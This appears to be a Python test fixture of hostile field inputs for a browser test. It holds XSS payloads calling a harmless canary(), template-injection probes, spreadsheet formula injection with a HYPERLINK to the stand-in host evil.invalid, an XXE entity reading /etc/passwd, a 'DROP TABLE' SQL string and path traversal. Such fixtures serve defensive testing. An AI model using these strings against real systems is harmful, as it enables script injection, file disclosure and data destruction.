"""What an attacker, or a page that quotes one, may write into any field.

``canary()`` is a function that the browser test watches; 191919 times seven is 1343433, which no
page holds unless a template computed it.
"""

from __future__ import annotations

PRODUCT = "1343433"
HOST = "evil.invalid"

HTML = (
    "<script>canary()</script>",
    "</script><script>canary()</script>",
    "<img src=x onerror=canary()>",
    "<IMG SRC=x OnErRoR=canary()//",
    "<svg onload=canary()>",
    "<svg><script href=data:,canary() />",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:canary()>x",
    "<details open ontoggle=canary()>",
    "<input autofocus onfocus=canary()>",
    "<style>@import 'https://evil.invalid/a.css'</style>",
    "<link rel=stylesheet href=https://evil.invalid/b.css>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid><button autofocus onfocus=canary()>",
    "--><script>canary()</script><!--",
    "]]><script>canary()</script><![CDATA[",
    "</title></textarea></noscript><script>canary()</script>",
    "&lt;script&gt;canary()&lt;/script&gt; &#60;img src=x onerror=canary()&#62;",
    "<template><img src=x onerror=canary()></template>",
    "<pm-slot>x</pm-slot></pm-text></dd></div><img src=x onerror=canary()>",
)
ATTRIBUTES = (
    '" onmouseover="canary()" x="',
    "' onmouseover='canary()' autofocus onfocus='canary()' x='",
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    "x` onmouseover=canary() y=`",
    '" data-markdown="">x</dd><img src=x onerror=canary()> data-markdown=""',
    "{: onclick=canary() onmouseover=canary() style=background:url(https://evil.invalid/c)}",
    '\\"},canary(),{\\"',
    '",[canary()],"',
    "\u2028canary()\u2029",
)
ADDRESSES = (
    "[x](javascript:canary())",
    "[x](JaVaScRiPt:canary())",
    "[x](java&#115;cript:canary())",
    "[x](java&Tab;script&colon;canary())",
    "[x](<java\tscript:canary()>)",
    "[x](\x01javascript:canary())",
    "[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)",
    "[x](vbscript:canary())",
    "[x](//evil.invalid/d 'a\" onmouseover=\"canary()')",
    "![x](https://evil.invalid/e.png)",
    "![x](x \"a' onerror='canary()\")",
    "<javascript:canary()>",
    "[x][y]\n\n[y]: javascript:canary()",
    "javascript:canary()",
    "`<img src=x onerror=canary()>` \\`<img src=x onerror=canary()>`",
    "**<img src=x onerror=canary()>**",
    "[<img src=x onerror=canary()>](https://example.com)",
)
TEMPLATES = (
    "{{ 191919*7 }}",
    "{% set x=191919*7 %}{{ x }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${191919*7} #{191919*7} <%= 191919*7 %>",
    "{0.__class__} {title} {count} %s %(x)s",
)
DATA = (
    "=1+1+cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.invalid/f")',
    "-1+1|cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nATTACH:https://evil.invalid/g",
    "a;b,c:d\\n\\;ATTENDEE:mailto:evil@evil.invalid",
    "</title><link href='https://evil.invalid/h'/><entry>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "a | b \\| c\n| --- |",
    "'; DROP TABLE outages; --",
)
CHARACTERS = (
    "\u202egnp.exe\u202c\u2066x",
    "a\x00b\x07c\x1b[31md\x7f\x85",
    "\x02pm-slot:0\x03 \x02pm-entry:0\x03 \x02wzxhzdk:0\x03 \x0260\x03img src=x onerror=canary()\x0262\x03",
    "\ufeff\ufffe\uffff\U000e0041",
    "../../../etc/passwd",
)
ALL = (*HTML, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *DATA, *CHARACTERS)
